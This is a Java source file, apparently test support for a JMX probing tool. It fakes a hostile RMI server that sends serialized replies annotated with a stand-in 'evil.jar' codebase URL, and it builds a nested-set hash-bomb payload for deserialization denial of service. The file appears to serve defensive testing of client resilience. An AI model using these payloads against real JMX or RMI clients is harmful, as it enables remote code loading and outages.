package io.sonde.targets.jmx;

import java.io.DataOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.rmi.server.UID;
import java.util.HashSet;
import java.util.Set;

/** What JMX servers say that mean harm. */
final class Hostile {
  private static final int RETURN = 0x51;
  private static final int NORMAL_RETURN = 1;

  private Hostile() {}

  /** What a server says before any call. */
  static OutputStream hello(Socket socket) throws IOException {
    var out = new DataOutputStream(socket.getOutputStream());
    out.writeByte(0x4e);
    out.writeUTF("127.0.0.1");
    out.writeInt(1);
    out.flush();
    return out;
  }

  /** Begins an answer to a call of RMI; what is written next is the result. */
  static DataOutputStream answer(OutputStream out) throws IOException {
    begin(out);
    return new DataOutputStream(out);
  }

  /** Answers a call of RMI. */
  static void answer(OutputStream out, Object result) throws IOException {
    begin(out).writeObject(result);
  }

  private static ObjectOutputStream begin(OutputStream out) throws IOException {
    out.write(RETURN);
    var object =
        new ObjectOutputStream(out) {
          @Override
          protected void annotateClass(Class<?> type) throws IOException {
            writeObject("http://127.0.0.1:1/evil.jar");
          }
        };
    object.writeByte(NORMAL_RETURN);
    new UID().write(object);
    object.flush();
    return object;
  }

  /**
   * A set of two sets of the same two sets, and so on: a few kB, whose hash takes two to the power
   * of the levels.
   */
  static Set<Object> pairedSets(int levels) {
    Set<Object> root = new HashSet<>();
    Set<Object> left = root;
    Set<Object> right = new HashSet<>();
    for (int i = 0; i < levels; i++) {
      Set<Object> nextLeft = new HashSet<>(Set.of("left"));
      Set<Object> nextRight = new HashSet<>();
      left.add(nextLeft);
      left.add(nextRight);
      right.add(nextLeft);
      right.add(nextRight);
      left = nextLeft;
      right = nextRight;
    }
    return root;
  }
}
